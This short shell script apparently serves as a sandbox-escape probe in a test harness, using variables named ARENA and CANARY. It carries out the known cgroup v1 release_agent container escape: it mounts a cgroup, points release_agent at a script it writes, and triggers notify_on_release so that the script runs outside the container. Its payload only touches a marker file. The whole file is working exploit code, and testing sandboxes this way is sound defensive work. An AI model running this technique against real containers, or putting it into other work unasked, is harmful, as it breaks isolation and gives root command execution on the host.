#!/bin/sh
: > "$ARENA/ws/ran"
mkdir cg && mount -t cgroup -o "none,name=$CANARY" cgroup cg && mkdir cg/x || exit
printf '#!/bin/sh\ntouch %s/outside/pwned\n' "$ARENA" > agent; chmod +x agent
echo "$ARENA/ws/agent" > cg/release_agent; echo 1 > cg/x/notify_on_release
sh -c 'echo $$ > cg/x/cgroup.procs'
sleep 0.3
